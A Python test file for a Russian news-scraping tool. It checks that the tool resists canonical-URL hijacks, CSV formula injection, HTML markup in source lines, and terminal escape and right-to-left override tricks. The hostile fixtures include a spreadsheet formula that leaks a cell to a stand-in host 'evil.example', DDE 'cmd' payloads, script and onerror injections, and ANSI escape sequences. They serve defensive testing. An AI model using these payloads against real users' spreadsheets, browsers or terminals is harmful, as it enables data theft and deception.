"""Issue 13, the output side: canonical hijacks (3), CSV formula injection (8), markup in the source line (9)
and terminal and display injection (13). Each test plays the attack through the real CLI, store or web app."""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import shutil
import sqlite3
import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from dragoman.article import Article, Block, BlockKind, RawPage
from dragoman.cli import main
from dragoman.extract import extract
from dragoman.formats.document import render_markdown, render_text

KOMMERSANT_URL = "https://www.kommersant.ru/doc/7715044"
KOMMERSANT_TITLE = "Легкий троннинг"
FAKE_TITLE = "Поддельный заголовок о переговорах в Кремле"
FAKE_BODY = """<p>Президент России Владимир Путин провел совещание с членами правительства. Обсуждали бюджет на
следующий год и расходы на здравоохранение, образование и строительство дорог в регионах страны.</p>
<p>По словам пресс-секретаря, участники совещания договорились вернуться к теме через месяц и подготовить
новые предложения по финансированию национальных проектов.</p>"""


def hijack_page(canonical: str, title: str = FAKE_TITLE) -> bytes:
    """A page on any host that names another outlet's article as its canonical URL."""
    return (
        f'<html lang="ru"><head><meta charset="utf-8"><title>{title}</title>'
        f'<link rel="canonical" href="{canonical}"><meta property="og:type" content="article"></head>'
        f"<body><article><h1>{title}</h1>{FAKE_BODY}<p class='date'>26 января 2022, 00:01</p></article></body></html>"
    ).encode()


def run(db: Path, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, ["--db", str(db), "--host-delay", "0", *args], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def kommersant_file(tmp_path: Path, data_dir: Path) -> Path:
    """The real Kommersant page, saved to disk as a user would have it."""
    target = tmp_path / "saved" / "Kommersant_2025_05_14.html.gz"
    target.parent.mkdir()
    shutil.copy(data_dir / "html_ru/fundus/ru/Kommersant_2025_05_14.html.gz", target)
    return target


@pytest.fixture
def hostile_site() -> Iterator[tuple[str, dict[str, bytes]]]:
    """A real HTTP server on 127.0.0.1; tests put pages in the dict it serves from."""
    pages: dict[str, bytes] = {"/robots.txt": b"User-agent: *\nAllow: /\n"}

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:  # quiet
            pass

        def do_GET(self) -> None:
            body = pages.get(self.path)
            self.send_response(200 if body is not None else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body or b"")))
            self.end_headers()
            self.wfile.write(body or b"")

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", pages
    server.shutdown()
    server.server_close()


# -- item 3: canonical hijacks ---------------------------------------------------------------------------


def test_a_page_on_another_host_cannot_overwrite_an_outlets_article(
    kommersant_file: Path, hostile_site: tuple[str, dict[str, bytes]], db_path: Path
) -> None:
    """Item 3: a page at any address claiming Kommersant's canonical URL stays a separate article."""
    base, pages = hostile_site
    pages["/news/1.html"] = hijack_page(KOMMERSANT_URL)
    code, _, err = run(db_path, "ingest", str(kommersant_file))
    assert code == 0, err
    code, out, err = run(db_path, "--allow-private", "ingest", f"{base}/news/1.html", "--json")
    assert code == 0, err
    assert json.loads(out)["stored"] == 1  # a new article, not a new revision of article 1

    code, out, _ = run(db_path, "show", "1")
    assert out.splitlines()[0] == KOMMERSANT_TITLE and FAKE_TITLE not in out
    code, out, _ = run(db_path, "show", KOMMERSANT_URL)
    assert out.splitlines()[0] == KOMMERSANT_TITLE
    conn = sqlite3.connect(db_path)
    rows = conn.execute("SELECT id, key_url, outlet, revision_count FROM articles ORDER BY id").fetchall()
    assert rows == [(1, KOMMERSANT_URL, "kommersant.ru", 1), (2, f"{base}/news/1.html", "127.0.0.1", 1)]
    code, out, _ = run(db_path, "show", "2", "--format", "json")
    fake = json.loads(out)
    assert fake["title"] == FAKE_TITLE and fake["canonical_url"] is None
    assert fake["extra"]["extract"]["claimed_canonical_url"] == KOMMERSANT_URL  # noted, never the key
    code, out, _ = run(db_path, "show", "2")
    assert out.splitlines()[-1] == f"Original Document: Russian: {base}/news/1.html"


def test_a_warc_record_from_an_unlisted_host_cannot_overwrite_an_outlets_article(
    tmp_path: Path, data_dir: Path, db_path: Path
) -> None:
    """Item 3: the same hijack through a WARC record; the record's target URI is the page's address."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    kommersant = gzip.decompress((data_dir / "html_ru/fundus/ru/Kommersant_2025_05_14.html.gz").read_bytes())
    records = [(KOMMERSANT_URL, kommersant), ("https://unlisted-news.example/politics/1", hijack_page(KOMMERSANT_URL))]
    warc = tmp_path / "hijack.warc.gz"
    with warc.open("wb") as handle:
        writer = WARCWriter(handle, gzip=True)
        for url, body in records:
            headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
            record = writer.create_warc_record(url, "response", payload=io.BytesIO(body), http_headers=headers)
            writer.write_record(record)
            record.raw_stream.close()
    code, out, err = run(db_path, "ingest-warc", str(warc), "--json", "--no-print-alerts")
    assert code == 0, err
    assert json.loads(out)["stored"] == 2
    code, out, _ = run(db_path, "show", KOMMERSANT_URL)
    assert out.splitlines()[0] == KOMMERSANT_TITLE
    conn = sqlite3.connect(db_path)
    assert conn.execute("SELECT key_url, revision_count FROM articles ORDER BY id").fetchall() == [
        (KOMMERSANT_URL, 1),
        ("https://unlisted-news.example/politics/1", 1),
    ]


def test_a_canonical_on_the_pages_own_site_or_an_outlet_alias_is_still_taken() -> None:
    """Item 3: the rule only refuses other sites; subdomains and outlets.toml aliases keep their canonical."""
    own = extract(RawPage(url="https://m.iz.ru/1282340", body=hijack_page("https://iz.ru/1282340/2022-01-26/x")))
    assert own.canonical_url == "https://iz.ru/1282340/2022-01-26/x" and own.outlet == "iz.ru"
    alias = extract(RawPage(url="https://izvestia.ru/news/1", body=hijack_page("https://iz.ru/1282340/2022-01-26/x")))
    assert alias.canonical_url == "https://iz.ru/1282340/2022-01-26/x"
    # A saved file has no site of its own: its canonical says where it was published (the user's own input).
    saved = extract(RawPage(url="file:///tmp/saved.html", body=hijack_page(KOMMERSANT_URL)))
    assert saved.canonical_url == KOMMERSANT_URL
    # Public-suffix aware: two sites under one public suffix are different sites.
    foreign = extract(RawPage(url="https://someone.github.io/a", body=hijack_page("https://other.github.io/b")))
    assert foreign.canonical_url is None and foreign.key_url == "https://someone.github.io/a"


def test_a_full_text_feed_cannot_supply_another_sites_article() -> None:
    """Item 3: a feed's full text is taken only for links on the feed's own site; others are fetched instead."""
    from dragoman.pipeline.watch import parse_feed_page

    text = "Фальшивый текст статьи, который лента выдаёт за материал другого издания."
    rss = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:yandex="http://news.yandex.ru"><channel>'
        f"<item><title>{FAKE_TITLE}</title><link>{KOMMERSANT_URL}</link><yandex:full-text>{text}</yandex:full-text></item>"
        f"<item><title>Своя новость</title><link>https://news.example.org/a/1</link>"
        f"<yandex:full-text>{text}</yandex:full-text></item></channel></rss>"
    ).encode()
    feed = RawPage(url="https://feeds.news.example.org/full.rss", body=rss, content_type="application/rss+xml")
    foreign, own = parse_feed_page(feed, "rss", 1_000_000)
    assert foreign.url == KOMMERSANT_URL and foreign.full_text is None  # fetched from kommersant.ru, not taken
    assert own.full_text == text


# -- a corpus of hostile scraped text, stored as the pipeline stores it --------------------------------

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Подробнее")'
ESC_TITLE = "Санкции \x1b]0;pwned\x07продлены\x1b[2J\x00 на год"
RLO_TITLE = "Курс рубля \u202eлоб 001\u202c вырос"
HOSTILE_QUOTE = "Мы [/bold] не согласны [link=https://evil.example]с решением[/link] \x1b]0;pwned\x07 суда"
HOSTILE_SPEAKER = "Иван \u202eвонавИ"


def hostile_articles() -> list[Article]:
    published = datetime(2024, 3, 1, 9, 0, tzinfo=UTC)
    return [
        Article(
            url="https://iz.ru/1/formula",
            title=FORMULA_TITLE,
            blocks=[Block(BlockKind.PARAGRAPH, "=1+1 Минфин сообщил о росте доходов бюджета.")],
            outlet="iz.ru",
            outlet_name="Известия",
            rubric="+Экономика",
            authors=["@SUM(1+1)*cmd|' /C calc'!A0", "-Иван Петров"],
            lead="\t=cmd|' /C calc'!A0",
            published_at=published,
            timezone="Europe/Moscow",
        ),
        Article(
            url="https://iz.ru/2/escape",
            title=ESC_TITLE,
            blocks=[Block(BlockKind.PARAGRAPH, "Текст \x1b[31mкрасный\x1b[0m и \x00нулевой\x9b1m символ.")],
            outlet="iz.ru",
            outlet_name="Известия",
            authors=["Пётр \x1b[8mСкрытый"],
            lead="\rЛид",
            published_at=published,
            timezone="Europe/Moscow",
        ),
        Article(
            url="https://iz.ru/3/rlo",
            title=RLO_TITLE,
            blocks=[Block(BlockKind.PARAGRAPH, f"{HOSTILE_QUOTE}, заявил {HOSTILE_SPEAKER}.")],
            outlet="iz.ru",
            outlet_name="Известия \u202e",
            authors=[HOSTILE_SPEAKER],
            published_at=published,
            timezone="Europe/Moscow",
        ),
    ]


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    """A real SQLite store with the hostile articles, the third analyzed with a hostile quote."""
    from dragoman.store import open_store

    db = tmp_path / "hostile.db"
    with open_store(db) as store:
        for article in hostile_articles():
            article.content_sha256 = article.compute_content_hash()
            result = store.ingest(article)
        analysis = {
            "analyzer_version": "test-analysis/1",
            "entities": [{"key": "PER:иван", "name": HOSTILE_SPEAKER, "type": "PER", "ru": HOSTILE_SPEAKER}],
            "mentions": [],
            "quotes": [
                {
                    "speaker": HOSTILE_SPEAKER,
                    "speaker_entity": "PER:иван",
                    "verb": "заявил [bold]",
                    "text": HOSTILE_QUOTE,
                    "text_en": None,
                    "sentence": 0,
                    "kind": "direct",
                    "unnamed": False,
                }
            ],
            "events": [],
        }
        store.save_analysis(result.revision_id, analysis, "test-analysis/1")
    return db


# -- item 8: CSV formula injection ----------------------------------------------------------------------


def test_csv_export_neutralises_formulas_in_every_text_cell(hostile_db: Path) -> None:
    """Item 8: cells starting with = + - @ tab or CR get OWASP's leading quote, and every cell is quoted."""
    code, out, err = run(hostile_db, "export", "--format", "csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    formula = next(r for r in rows if r["url"] == "https://iz.ru/1/formula")
    assert formula["title"] == "'" + FORMULA_TITLE
    assert formula["rubric"] == "'+Экономика"
    assert formula["authors"] == "'@SUM(1+1)*cmd|' /C calc'!A0; -Иван Петров"
    assert formula["lead"] == "'\t=cmd|' /C calc'!A0"
    assert formula["text"] == "'=1+1 Минфин сообщил о росте доходов бюджета."
    escaped = next(r for r in rows if r["url"] == "https://iz.ru/2/escape")
    assert escaped["lead"] == "'\rЛид"
    for row in rows:  # nothing a spreadsheet would run is left at the start of any cell
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
    assert rows[0]["id"] == "1" and rows[0]["outlet"] == "iz.ru"  # plain cells read back unchanged
    first_data_line = out.splitlines()[1]  # every cell is quoted in the file itself
    assert first_data_line.startswith('"1","1","https://iz.ru/1/formula","",')


# -- item 9: markup in the source line ------------------------------------------------------------------

HOSTILE_CANONICAL = 'https://iz.ru/1> <img src="x" onerror="alert(1)">'


def test_markdown_and_text_source_line_never_carry_html() -> None:
    """Item 9: a canonical URL with markup, got past validation, is escaped in the Markdown and text exports."""
    article = hostile_articles()[0]
    article.canonical_url = HOSTILE_CANONICAL
    markdown = render_markdown(article)
    text = render_text(article)
    assert "<img" not in markdown and "<img" not in text and 'onerror="' not in markdown
    source_line = markdown.rstrip("\n").splitlines()[-1]
    assert source_line == (
        "Original Document: Russian: <https://iz.ru/1%3E%20%3Cimg%20src=%22x%22%20onerror=%22alert(1)%22%3E>"
    )
    assert (
        text.rstrip("\n")
        .splitlines()[-1]
        .endswith("https://iz.ru/1%3E%20%3Cimg%20src=%22x%22%20onerror=%22alert(1)%22%3E")
    )
    # A "URL" without a scheme would be an HTML tag inside <...>: it is written as escaped text instead.
    article.canonical_url, article.url = None, 'x"><script>alert(1)</script>'
    assert "<script" not in render_markdown(article)


def test_extraction_drops_a_canonical_url_that_carries_markup() -> None:
    """Item 9: the extractor never takes such a canonical, even on the page's own site."""
    page = hijack_page(HOSTILE_CANONICAL.replace('"', "&quot;"))
    article = extract(RawPage(url="https://iz.ru/1282340/2022-01-26/sovesh", body=page))
    assert article.canonical_url is None and article.key_url == "https://iz.ru/1282340/2022-01-26/sovesh"
    assert "<img" not in render_markdown(article)


# -- item 13: terminal and display injection ------------------------------------------------------------


def test_quotes_command_prints_markup_as_text_and_no_escapes(hostile_db: Path) -> None:
    """Item 13: `[/bold]` no longer crashes `dragoman quotes`, `[link=...]` is shown as text, ESC is dropped."""
    result = CliRunner(env={"COLUMNS": "1000"}).invoke(main, ["--db", str(hostile_db), "quotes"])
    assert result.exit_code == 0, result.output
    assert "[/bold]" in result.stdout and "[link=https://evil.example]" in result.stdout
    assert "заявил" not in result.stdout  # issue 14: an English view shows no Russian verb (none it knows)
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout


def test_show_revisions_and_search_print_no_terminal_escapes(hostile_db: Path) -> None:
    """Item 13: `ESC]0;...BEL` (CSI, NUL) in a title or text never reaches the terminal (show, revisions, search)."""
    for fmt, title in (("text", "Санкции ]0;pwnedпродлены[2J на год"), ("md", r"Санкции \]0;pwnedпродлены\[2J на год")):
        code, out, _ = run(hostile_db, "show", "https://iz.ru/2/escape", "--format", fmt)
        assert code == 0
        assert "\x1b" not in out and "\x07" not in out and "\x00" not in out and "\x9b" not in out
        assert title in out  # the text itself stays
    code, out, _ = run(hostile_db, "revisions", "2")
    assert code == 0 and "\x1b" not in out and "Санкции" in out
    code, out, _ = run(hostile_db, "search", "Санкции")
    assert code == 0 and "\x1b" not in out and "\x07" not in out and "Санкции ]0;pwnedпродлены[2J на год" in out


def test_text_and_markdown_exports_drop_nul_and_escape(hostile_db: Path) -> None:
    """Item 13: the text and Markdown exports keep no NUL, ESC or other control characters (tab and newline stay)."""
    kept = {"text": "Текст [31mкрасный[0m и нулевой1m символ.", "md": r"Текст \[31mкрасный\[0m и нулевой1m символ."}
    for fmt, paragraph in kept.items():
        code, out, _ = run(hostile_db, "export", "--format", fmt)
        assert code == 0 and out.count("iz.ru/") >= 3
        assert not any(ch in out for ch in ("\x00", "\x1b", "\x07", "\x9b", "\r"))
        assert paragraph in out  # the text around the controls stays


def test_web_reader_isolates_right_to_left_overrides(hostile_db: Path) -> None:
    """Item 13: titles, authors, outlet and speaker names are isolated (dir="auto" or <bdi>) in the web reader."""
    import warnings

    from dragoman.serve.app import create_app

    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", message="Using `httpx` with `starlette.testclient`")
        from fastapi.testclient import TestClient

    with TestClient(create_app(hostile_db)) as client:
        page = client.get("/articles/3").text
        quotes = client.get("/quotes").text
        search = client.get("/", params={"q": "рубля"}).text
    assert re.search(r'<h1 class="ru" dir="auto"[^>]*><span[^>]*>Курс рубля \u202eлоб 001\u202c вырос</span>', page)
    assert "<title>Курс рубля лоб 001 вырос · dragoman</title>" in page  # a tab title cannot isolate: removed
    assert f"<dt>Authors</dt><dd><bdi>{HOSTILE_SPEAKER}</bdi></dd>" in page
    assert "<dt>Outlet</dt><dd><bdi>Известия \u202e</bdi>" in page
    assert re.search(rf'<a dir="auto" href="/entities/PER%3A%D0%B8%D0%B2%D0%B0%D0%BD">{HOSTILE_SPEAKER}</a>', quotes)
    assert re.search(r'<a class="title" href="/articles/3" dir="auto">Курс рубля \u202eлоб 001\u202c вырос</a>', search)


def test_alerts_list_prints_no_terminal_escapes(tmp_path: Path) -> None:
    """Item 13: an alert's scraped title and URL reach `dragoman alerts` without ESC, BEL or NUL."""
    from dragoman.acquire.alerts import AlertEngine, add_watch
    from dragoman.pipeline.watch import Intake
    from dragoman.store import SQLiteStore

    db = tmp_path / "alerts.db"
    title = "Санкции \x1b]0;pwned\x07продлены\x1b[2J\x00 на год"
    with SQLiteStore(db) as store:
        add_watch(store, "term", "санкции")
        Intake(store, [AlertEngine(store, [])]).take(
            Article(url="https://iz.ru/2/alert", title=title, blocks=[Block(BlockKind.PARAGRAPH, "Санкции продлены.")])
        )
    code, out, _ = run(db, "alerts")
    assert code == 0
    assert "Санкции ]0;pwnedпродлены[2J на год" in out  # the alert is listed, its text kept
    assert not any(ch in out for ch in ("\x1b", "\x07", "\x00"))
